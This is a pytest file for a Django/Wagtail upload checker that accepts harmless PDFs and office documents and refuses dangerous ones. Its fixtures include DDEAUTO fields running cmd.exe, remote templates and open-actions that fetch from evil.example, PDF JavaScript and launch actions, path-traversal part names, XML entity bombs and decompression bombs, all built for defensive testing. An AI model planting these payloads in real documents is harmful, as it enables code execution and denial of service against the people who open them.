"""Documents are judged by what is inside."""

import subprocess
import sys
import zlib
from io import BytesIO
from random import Random

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from pikepdf import Array, AttachedFileSpec, Dictionary, Encryption, Name, ObjectStreamMode, Pdf, String
from wagtail.documents import get_document_model

from cms.media import documents, sandbox
from cms.media.inside.__main__ import MOST_SECONDS
from cms.media.inside.archives import MOST_BYTES_READ
from tests.cms.media.files import (
    SCRIPT,
    archive,
    claiming,
    field,
    locked,
    office,
    open_document,
    pdf,
    pdf_that_opens,
    pdf_with_button,
    raw_pdf,
    relations,
)

CHART = {
    "word/embeddings/Workbook.xlsx": office("xlsx"),
    "word/charts/_rels/chart1.xml.rels": relations(package="a.xlsx"),
}


def opens_at_a_page(document: Pdf) -> None:
    document.Root.OpenAction = Array([document.pages[0].obj, Name.Fit])


def opens_at_a_place(document: Pdf) -> None:
    document.Root.OpenAction = Array([document.pages[0].obj, Name.XYZ, 0, 700, 1.5])


def has_outline(document: Pdf) -> None:
    document.Root.OpenAction = Dictionary(S=Name.GoTo, D=Array([document.pages[0].obj, Name.Fit]))
    document.Root.Note = String("not /JavaScript but a word about it, nor /OpenAction")


def nested(depth: int) -> dict[str, bytes]:
    """A part of Word whose elements stand in each other, `depth` times."""
    return {"word/footer1.xml": b"<x>" * depth + b"</x>" * depth}


HARMLESS = {
    "a.pdf": pdf(),
    "at a page.pdf": pdf(opens_at_a_page),
    "at a place.pdf": pdf(opens_at_a_place),
    "outline.pdf": pdf(has_outline),
    "link.pdf": pdf_with_button(S=Name.URI, URI=String("https://www.example.org/")),
    "packed.pdf": pdf(has_outline, object_stream_mode=ObjectStreamMode.generate),
    "not to be printed.pdf": pdf(encryption=Encryption(owner="secret", user="")),
    "a.csv": "Name;Zahl\nÄrger;1\n".encode("cp1252"),
    "b.csv": "Name,Number\nÉlan,1\n".encode("utf-8-sig"),
    "a.txt": "Some words.\r\n".encode("utf-16"),
    "a.docx": office("docx"),
    "link.docx": office(
        "docx", {"word/_rels/document.xml.rels": relations(hyperlink="https://example.org/")}
    ),
    "chart.docx": office("docx", CHART),
    "fields.docx": office("docx", {"word/header1.xml": field(" PAGE ", " \\* MERGEFORMAT ")}),
    "words.docx": office("docx", {"word/header1.xml": field(' HYPERLINK "https://www.example.org/DDE" ')}),
    "deep.docx": office("docx", nested(500)),
    "many parts.docx": office("docx", {f"word/{number}": b"" for number in range(4_998)}),
    "a.xlsx": office("xlsx"),
    "A.PPTX": office("pptx"),
    "a.odt": open_document("odt"),
    "picture.odt": open_document("odt", {"styles.xml": b'<x><image href="Pictures/1.png"/></x>'}),
    "a.ods": open_document("ods"),
    "a.odp": open_document("odp"),
}
MACRO_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"
TEMPLATE = relations(attachedTemplate="https://evil.example/x.dotm")
NESTED = (
    b'<w:d xmlns:w="urn:w"><w:fldChar w:fldCharType="begin"/><w:fldChar w:fldCharType="begin"/>'
    b'<w:instrText>QUOTE 68 68 69</w:instrText><w:fldChar w:fldCharType="end"/></w:d>'
)
ENDED = (
    b'<w:d xmlns:w="urn:w"><w:fldChar w:fldCharType="begin"/><w:instrText>DDE c:\\cmd.exe</w:instrText>'
    b'<w:fldChar w:fldCharType="end"/></w:d>'
)
PLAYED = b'<p xmlns:a="urn:a"><a:hlinkClick action="ppaction://program"/></p>'
NOISE = Random(1).randbytes(900_000).hex().encode()  # noqa: S311 - it only must not pack well
BOMB = b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><x>&b;</x>'


FETCHING = [
    *("dde-link", "dde-source", "dde-connection-decl", "dde-connection", "section-source", "table-source"),
    *("cell-range-source", "floating-frame"),
    *("database-source-sql", "database-source-query", "database-source-table"),
]
SHOWN_AT_ONCE = ["image", "object", "fill-image", "background-image", "sound", "audio", "video"]
ELSEWHERE = ["http://x/", " FILE:x", "//x/x", "\\\\x\\x", "/etc/x", "../x"]


def part_of_writer(content: str) -> tuple[str, bytes]:
    return "a.odt", open_document("odt", {"x.xml": f"<x>{content}</x>".encode()})


def part(kind: str, name: str, content: bytes) -> tuple[str, bytes]:
    """A document of `kind` with one more part."""
    return f"a.{kind}", office(kind, {name: content})


def with_rows(name: str, **targets: str) -> tuple[str, bytes]:
    return part(
        name.partition("/")[0].replace("word", "docx").replace("xl", "xlsx"), name, relations(**targets)
    )


def with_attachment(document: Pdf) -> None:
    document.attachments["notes.txt"] = AttachedFileSpec(document, b"x", filename="notes.txt")


def with_form(document: Pdf) -> None:
    document.Root.AcroForm = Dictionary(XFA=document.make_stream(b"<xdp/>"), Fields=Array([]))


def with_script_by_name(document: Pdf) -> None:
    script = document.make_indirect(Dictionary(**SCRIPT))
    document.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), script])))


def when_a_page_is_turned(document: Pdf) -> None:
    document.pages[0].obj.AA = Dictionary(O=Dictionary(S=Name.URI, URI=String("https://evil.example/")))


def annotated(kind: str) -> bytes:
    """A PDF with an annotation of a `kind`."""

    def change(document: Pdf) -> None:
        annotation = Dictionary(Type=Name.Annot, Subtype=Name(f"/{kind}"), Rect=Array([0, 0, 9, 9]))
        document.pages[0].obj.Annots = Array([annotation])

    return pdf(change)


REFUSED = {
    "wrong_content": {
        "text named pdf": ("a.pdf", b"<html><script>alert(1)</script>"),
        "program named text": ("a.txt", b"MZ\x90\x00\x03"),
        "program of an even length": ("a.txt", b"MZ\x90\x00\x03\x01"),
        "program named table": ("a.csv", b"\x7fELF\x02\x01\x01\x00"),
        "text named document": ("a.docx", b"Some words."),
        "any archive named document": ("a.docx", archive({"a.txt": b"x"})),
        "table named document": ("a.docx", office("xlsx")),
        "document named table": ("a.ods", open_document("odt")),
        "drawing": ("a.svg", b"<svg/>"),
    },
    "damaged": {
        "half a pdf": ("a.pdf", pdf()[:-60]),
        "pdf whose list of objects is wrong": ("a.pdf", pdf().replace(b"startxref\n", b"startxref\n1")),
        "pdf that points to itself": ("a.pdf", raw_pdf(b"3 0 R")),
        "pdf deeper than anybody reads": ("a.pdf", raw_pdf(b"[" * 9_000 + b"]" * 9_000)),
        "a way out": part("docx", "word/../../../etc/cron.d/x", b"x"),
        "a way out of Windows": part("docx", "word\\..\\..\\x", b"x"),
        "from the root": part("docx", "/etc/cron.d/x", b"x"),
        "from the root of Windows": part("docx", "\\Windows\\x", b"x"),
        "a part twice": ("a.docx", office("docx", {"word/DOCUMENT.xml": b"<x/>"})),
        "entities": part("docx", "word/_rels/document.xml.rels", BOMB),
        "entities of writer": ("a.odt", open_document("odt", {"styles.xml": BOMB})),
        "no xml": part("docx", "word/footer1.xml", b"<x>"),
        "nested for ever": ("a.docx", office("docx", nested(3_000))),
        "nested once too often": ("a.docx", office("docx", nested(501))),
    },
    "swells": {
        "archive bomb": part("docx", "word/media/x", b"\x00" * 30_000_000),
        "too large to unpack": (
            "a.docx",
            claiming(office("docx", {"word/media/x": NOISE}), 200 * 1024 * 1024 + 1),
        ),
        "thousands of parts": ("a.docx", office("docx", {f"word/{number}": b"" for number in range(5_001)})),
    },
    "encrypted": {
        "pdf": ("a.pdf", pdf(encryption=Encryption(owner="secret", user="secret"))),
        "archive": ("a.docx", locked(office("docx"))),
        "writer": part_of_writer("<encryption-data/>"),
    },
    "program": {
        "macros of word": part("docx", "word/vbaProject.bin", b"x"),
        "macros under another name": ("a.docx", office("docx", types=MACRO_TYPE)),
        "macros by their relation": with_rows("word/_rels/document.xml.rels", vbaProject="harmless.bin"),
        "a button that runs one": part("docx", "word/document2.xml", field(" MACROBUTTON Start press ")),
        "old macros of excel": part("xlsx", "xl/macrosheets/sheet1.xml", b"x"),
        "controls": part("xlsx", "xl/activeX/activeX1.bin", b"x"),
        "controls by their relation": with_rows("word/_rels/document.xml.rels", control="a.xml"),
        "a part of the window": with_rows("word/_rels/document.xml.rels", webextensiontaskpanes="a.xml"),
        "a program started by a slide": part("pptx", "ppt/slides/slide1.xml", PLAYED),
        "macros of writer": ("a.odt", open_document("odt", {"Basic/Standard/Module1.xml": b"x"})),
        **{
            f"{name} of writer": part_of_writer(f"<{name}/>")
            for name in ("event-listener", "script", "applet", "plugin")
        },
    },
    "script": {
        "when pressed": ("a.pdf", pdf_with_button(**SCRIPT)),
        "starts another program": ("a.pdf", pdf_with_button(S=Name.Launch, F=String("calc.exe"))),
        "by name": ("a.pdf", pdf(with_script_by_name)),
        "in a packed object": (
            "a.pdf",
            pdf(with_script_by_name, object_stream_mode=ObjectStreamMode.generate),
        ),
        "in a locked file": ("a.pdf", pdf(with_script_by_name, encryption=Encryption(owner="x", user=""))),
        "its name in numbers": ("a.pdf", raw_pdf(b"<</#53/Java#53cript/JS(1)>>")),
        "that nothing points to": ("a.pdf", raw_pdf(b"<</S/JavaScript/JS(1)>>")),
        "deep inside": ("a.pdf", raw_pdf(b"<</A[[<</B<</S/JavaScript/JS(1)>>>>]]>>")),
        "a form that thinks": ("a.pdf", pdf(with_form)),
        **{f"a {kind}": ("a.pdf", annotated(kind)) for kind in ("RichMedia", "3D", "Movie", "Screen")},
        **{
            f"does {action}": ("a.pdf", pdf_with_button(S=Name(f"/{action}")))
            for action in ("ImportData", "RichMediaExecute", "Rendition")
        },
    },
    "acts": {
        "runs when opened": ("a.pdf", pdf_that_opens(**SCRIPT)),
        "asks another site when opened": (
            "a.pdf",
            pdf_that_opens(S=Name.URI, URI=String("https://x.example/")),
        ),
        "opens a file elsewhere": ("a.pdf", pdf_that_opens(S=Name.GoToR, F=String("//evil.example/x"))),
        "when a page is turned": ("a.pdf", pdf(when_a_page_is_turned)),
    },
    "attached": {
        "pdf": ("a.pdf", pdf(with_attachment)),
        "ole": part("docx", "word/embeddings/oleObject1.bin", b"x"),
        "ole by its relation": with_rows("word/_rels/document.xml.rels", oleObject="media/image1.png"),
        "another text": with_rows("word/_rels/document.xml.rels", aFChunk="a.html"),
        "a program": part("pptx", "ppt/embeddings/a.exe", b"MZ"),
        "pdf that nothing points to": ("a.pdf", raw_pdf(b"<</Type/Filespec/EF<</F 1 0 R>>>>")),
        "pdf by name only": ("a.pdf", raw_pdf(b"<</EmbeddedFiles<</Names[]>>>>")),
        "ole of writer": ("a.odt", open_document("odt", {"styles.xml": b"<x><object-ole/></x>"})),
    },
    "fetches": {
        "a template": part("docx", "word/_rels/settings.xml.rels", TEMPLATE),
        "a template, in other bytes": part(
            "docx", "word/_rels/settings.xml.rels", TEMPLATE.decode().encode("utf-16")
        ),
        "a template, after much nothing": part(
            "docx",
            "word/_rels/settings.xml.rels",
            b"<!--" + NOISE + b"-->" + TEMPLATE,
        ),
        "a picture": with_rows("word/_rels/document.xml.rels", image="https://evil.example/x.png"),
        "values of another table": with_rows("xl/_rels/workbook.xml.rels", externalLink="a.xml"),
        "dde of excel": with_rows("xl/externalLinks/_rels/externalLink1.xml.rels", externalLinkPath="cmd:x"),
        "a database": with_rows("xl/_rels/workbook.xml.rels", connections="connections.xml"),
        "dde": part("docx", "word/document2.xml", field(' DDEAUTO c:\\\\cmd.exe "/k calc.exe" ')),
        "dde in pieces": part("docx", "word/document2.xml", field(" DD", "E c:\\\\cmd.exe ")),
        "dde on lines of its own": part(
            "docx",
            "word/document2.xml",
            field(" DD", "E c:\\\\cmd.exe ").replace(b"</w:instrText>", b"</w:instrText>\n"),
        ),
        "dde without a result": part("docx", "word/document2.xml", ENDED),
        "dde in numbers": part("docx", "word/document2.xml", NESTED),
        "dde in a short way": part("docx", "word/a.xml", b'<x><fldSimple instr="DDE c:\\\\cmd.exe"/></x>'),
        **{f"{name} of writer": part_of_writer(f"<{name}/>") for name in FETCHING},
        **{f"{name} of writer": part_of_writer(f'<{name} href="http://x/"/>') for name in SHOWN_AT_ONCE},
        **{f"a picture of {place}": part_of_writer(f'<image href="{place}"/>') for place in ELSEWHERE},
    },
}
CASES = [(reason, case) for reason, cases in REFUSED.items() for case in cases]


def swelling_pdf() -> bytes:
    """A PDF of 1 MB one of whose packed objects is 1 GB long."""
    packer = zlib.compressobj(9)
    packed = packer.compress(b"4 0 ") + b"".join(packer.compress(bytes(1 << 20)) for _time in range(1024))
    packed += packer.flush()
    stream = b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n%s\nendstream"
    start = raw_pdf(stream % (len(packed), packed))
    # A second list of objects says that object 4 is packed in object 3.
    before = int(start.rsplit(b"startxref\n", 1)[1].split(b"\n")[0])
    about = b"/W[1 2 1]/Index[4 1]/Size 6/Root 1 0 R/Prev %d/Length 4" % before
    more = b"\n5 0 obj\n<</Type/XRef%s>>stream\n\x02\x00\x03\x00\nendstream\nendobj\n" % about
    return start + more + b"startxref\n%d\n%%%%EOF" % (len(start) + 1)


def upload(admin_client, name, content):
    return admin_client.post(
        "/admin/documents/multiple/add/",
        {"files[]": SimpleUploadedFile(name, content), "title": "Paper", "collection": 1},
        headers={"X-Requested-With": "XMLHttpRequest"},
    ).json()


@pytest.mark.django_db
@pytest.mark.parametrize("name", HARMLESS)
def test_a_harmless_document_is_taken(admin_client, name):
    answer = upload(admin_client, name, HARMLESS[name])
    assert answer["success"], answer
    with get_document_model().objects.get().file.open() as stored:
        assert stored.read() == HARMLESS[name]


@pytest.mark.parametrize(("reason", "case"), CASES)
def test_a_dangerous_document_is_refused_for_its_reason(reason, case):
    name, content = REFUSED[reason][case]
    with pytest.raises(ValidationError) as refusal:
        documents.check(BytesIO(content), name)
    assert refusal.value.code == reason


@pytest.mark.django_db
@pytest.mark.parametrize(
    "road", ["/admin/documents/multiple/add/", "/admin/documents/chooser/create/", "/admin/documents/add/"]
)
def test_every_way_to_upload_refuses_it_with_words(admin_client, road):
    name, content = REFUSED["acts"]["runs when opened"]
    prefix = "document-chooser-upload-" if "chooser" in road else ""
    form = {f"{prefix}title": "Paper", f"{prefix}collection": 1, f"{prefix}tags": ""}
    file = "files[]" if "multiple" in road else f"{prefix}file"
    answer = admin_client.post(
        road,
        form | {file: SimpleUploadedFile(name, content)},
        headers={"X-Requested-With": "XMLHttpRequest"} if "multiple" in road else {},
    )
    assert "does something by itself" in answer.content.decode()
    assert not get_document_model().objects.exists()


def test_every_reason_has_words_that_say_what_to_do():
    assert set(REFUSED) | {"too_much"} == set(documents.WORDS)
    assert [reason for reason, words in documents.WORDS.items() if str(words).count(".") < 2] == []


def test_a_look_that_does_not_come_to_an_end_is_too_much(monkeypatch):
    assert sandbox.SECONDS_TO_WAIT > MOST_SECONDS, "a process that works too long ends by itself"
    monkeypatch.setattr(sandbox, "SECONDS_TO_WAIT", 0)
    assert sandbox.reason_against(BytesIO(HARMLESS["a.docx"]), "docx") == "too_much"


def test_a_part_may_be_so_long_and_no_longer():
    text = b"<x>" + NOISE + b" " * (MOST_BYTES_READ - len(NOISE) - 7) + b"</x>"
    documents.check(BytesIO(office("docx", {"word/long.xml": text})), "a.docx")
    with pytest.raises(ValidationError) as refusal:
        documents.check(BytesIO(office("docx", {"word/long.xml": text + b" "})), "a.docx")
    assert refusal.value.code == "too_much"


# In a process of its own: to a child counts what its parent had when it began, and a run of tests has much.
LOOK_AND_MEASURE = """
import resource, sys
from io import BytesIO
from cms.media.sandbox import reason_against
print(reason_against(BytesIO(sys.stdin.buffer.read()), "pdf"))
print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)
"""


def test_a_document_that_swells_when_it_is_read_is_refused_before_the_machine_is_full():
    content = swelling_pdf()
    assert len(content) < 2_000_000
    with pytest.raises(ValidationError):
        documents.check(BytesIO(content), "a.pdf")
    command = [sys.executable, "-c", LOOK_AND_MEASURE]
    reason, kibibytes = subprocess.run(
        command, input=content, stdout=subprocess.PIPE, check=True
    ).stdout.split()
    assert reason != b"None"
    assert 200 * 1024 < int(kibibytes) < 600 * 1024
